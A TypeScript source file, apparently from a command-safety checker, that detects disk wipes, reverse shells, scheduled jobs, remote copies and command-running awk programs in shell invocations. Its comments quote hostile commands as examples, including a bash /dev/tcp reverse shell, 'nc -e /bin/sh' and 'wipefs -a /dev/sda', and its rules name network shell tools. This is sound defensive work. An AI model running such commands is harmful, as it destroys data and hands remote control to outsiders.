/**
 * Rules of decisions version 4 for attacks the first catalogue missed (issue 12): wiping a disk,
 * opening a reverse shell, scheduling code to run later, copying to another machine, and awk
 * programs that run commands.
 */
import type { Invocation, RuleHost } from "./rules/rule-host.js";
import { isBlockDevice, isHarmlessSink, locate } from "./paths.js";
import { PLACEHOLDER_MARK } from "./scanner.js";
import type { OptionSpec } from "./words.js";
import { brief, hasLongAbbreviated, operands, optionValues, shortLetters } from "./words.js";

// ── disk wipers ──────────────────────────────────────────────────────────────────────────────

function isDevice(target: string): boolean {
  return isBlockDevice(target) || (target.startsWith("/dev/") && !isHarmlessSink(target));
}

function wipes(invocation: Invocation): boolean {
  const { name, args } = invocation;
  const targets = operands(args, { short: "otOp", long: ["--offset", "--types", "--backup"] });
  switch (name) {
    case "wipefs": {
      // Without -a or -o, wipefs only lists the signatures it finds.
      const erases = shortLetters(args, "otO").has("a") || shortLetters(args, "tO").has("o") || hasLongAbbreviated(args, "--all", "--offset");
      return erases && targets.some((target) => isDevice(target) || target.includes("$") || target.includes(PLACEHOLDER_MARK));
    }
    case "blkdiscard":
      return targets.length > 0;
    case "shred":
      return operands(args, { short: "ns", long: ["--iterations", "--size", "--random-source"] }).some(isDevice);
    case "sgdisk": {
      const letters = shortLetters(args);
      return letters.has("Z") || letters.has("z") || letters.has("o") || hasLongAbbreviated(args, "--zap-all", "--zap", "--clear");
    }
    default:
      return false;
  }
}

// ── reverse shells ───────────────────────────────────────────────────────────────────────────

const NETCATS = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox-nc"]);
/** A word naming bash's network pseudo-files: `/dev/tcp/HOST/PORT`, `/dev/udp/HOST/PORT`. */
export const NETWORK_DEVICE = /\/dev\/(?:tcp|udp)\//;

function opensShell(invocation: Invocation): boolean {
  const { name, args } = invocation;
  if (NETCATS.has(name)) {
    const letters = shortLetters(args, "ecpswiIOTqxXb");
    return letters.has("e") || letters.has("c") || hasLongAbbreviated(args, "--exec", "--sh-exec", "--lua-exec");
  }
  if (name === "socat") return args.some((arg) => /(?:^|!!|,)\s*(?:exec|system):/i.test(arg));
  return false;
}

/**
 * Report a reverse shell: `nc -e /bin/sh host port`, `socat exec:… tcp:…`, or any word or
 * redirection naming `/dev/tcp/…` (`bash -i >& /dev/tcp/host/port 0>&1`).
 */
export function checkReverseShellWords(words: readonly string[], host: RuleHost): void {
  const word = words.find((candidate) => NETWORK_DEVICE.test(candidate));
  if (word !== undefined) host.report("approval:reverse-shell", `${brief(word)} opens a network connection a shell can be wired to.`);
}

// ── persistence and remote copies ────────────────────────────────────────────────────────────

function schedules(invocation: Invocation): boolean {
  const { name, args } = invocation;
  if (name === "crontab") return !args.includes("-l") || args.includes("-r") || args.includes("-e");
  if (name === "at" || name === "batch") return !args.some((arg) => arg === "-l" || arg === "-c" || arg === "-V" || arg === "--help");
  return name === "systemd-run";
}

const SCP: OptionSpec = { short: "cFiJloPSDX", long: [] };
const RSYNC: OptionSpec = {
  short: "eTfB",
  long: ["--rsh", "--exclude", "--include", "--filter", "--temp-dir", "--partial-dir", "--link-dest", "--compare-dest", "--copy-dest", "--backup-dir", "--files-from", "--exclude-from", "--include-from", "--rsync-path", "--chmod"],
};
/** `host:path`, `user@host:path`, `rsync://host/…`: an operand on another machine. */
const REMOTE_OPERAND = /^(?:rsync:\/\/|(?:[^/\s:@]+@)?\[?[A-Za-z0-9._:-]*[A-Za-z0-9]\]?:(?!\/\/))/;

function remoteOperand(invocation: Invocation): string | undefined {
  const { name, args } = invocation;
  if (name === "sftp") return operands(args, SCP)[0];
  if (name === "scp") return operands(args, SCP).find((word) => REMOTE_OPERAND.test(word));
  if (name === "rsync") return operands(args, RSYNC).find((word) => REMOTE_OPERAND.test(word));
  return undefined;
}

// ── awk ──────────────────────────────────────────────────────────────────────────────────────

const AWKS = new Set(["awk", "gawk", "mawk", "nawk"]);
const AWK: OptionSpec = { short: "FvfWeiIlL", long: ["--field-separator", "--assign", "--file", "--source", "--include", "--load"] };
const AWK_STRING = String.raw`"((?:[^"\\]|\\.)*)"`;
/** Strings an awk program runs as shell commands: `system("…")`, `print | "…"`, `"…" | getline`. */
const AWK_COMMANDS = [
  new RegExp(String.raw`\bsystem\s*\(\s*${AWK_STRING}`, "g"),
  new RegExp(String.raw`(?<!\|)\|&?\s*${AWK_STRING}`, "g"),
  new RegExp(String.raw`${AWK_STRING}\s*\|&?\s*getline`, "g"),
];
/** `print > "FILE"`, `printf … >> "FILE"`: the program writes a file. */
const AWK_WRITES = new RegExp(String.raw`\bprintf?\b[^;{}]*?>>?\s*${AWK_STRING}`, "g");
/** A single `|` (awk has no bitwise or) or `system(`: the program starts a process. */
const AWK_SPAWNS = /\bsystem\s*\(|(?<!\|)\|(?!\|)/;

function awkPrograms(args: readonly string[]): string[] {
  const sources = optionValues(args, ["-e"], ["--source"]);
  if (sources.length > 0 || optionValues(args, ["-f"], ["--file"]).length > 0) return sources;
  const program = operands(args, AWK)[0];
  return program === undefined ? [] : [program];
}

function checkAwk(invocation: Invocation, host: RuleHost): void {
  for (const program of awkPrograms(invocation.args)) {
    for (const pattern of AWK_COMMANDS) {
      for (const match of program.matchAll(pattern)) host.analyzeScript((match[1] as string).replace(/\\(.)/g, "$1"));
    }
    for (const match of program.matchAll(AWK_WRITES)) {
      const target = match[1] as string;
      if (locate(target, host.paths) === "outside") host.report("approval:write-outside", `\`${invocation.name}\` writes ${brief(target)}, outside the workspace and the temporary directory.`);
    }
    if (AWK_SPAWNS.test(program) || program.includes(PLACEHOLDER_MARK)) {
      host.report("approval:inline-code-spawn", `\`${invocation.name}\` runs a program that starts other commands.`);
    }
  }
}

// ── the dispatcher ───────────────────────────────────────────────────────────────────────────

/**
 * Apply the attack rules of decisions version 4 to one resolved simple command.
 *
 * @example
 * checkAttacks({ name: "wipefs", args: ["-a", "/dev/sda"], … }, host) // host.report("forbidden:disk-wipe", …)
 */
export function checkAttacks(invocation: Invocation, host: RuleHost): void {
  const { name } = invocation;
  if (wipes(invocation)) host.report("forbidden:disk-wipe", `\`${name}\` erases what a disk holds.`);
  if (opensShell(invocation)) host.report("approval:reverse-shell", `\`${name}\` wires a shell to a network connection.`);
  if (schedules(invocation)) host.report("approval:scheduled-job", `\`${name}\` schedules code to run later, outside this session.`);
  const remote = remoteOperand(invocation);
  if (remote !== undefined) host.report("approval:remote-copy", `\`${name}\` copies files to or from another machine (${brief(remote)}).`);
  if (AWKS.has(name)) checkAwk(invocation, host);
}
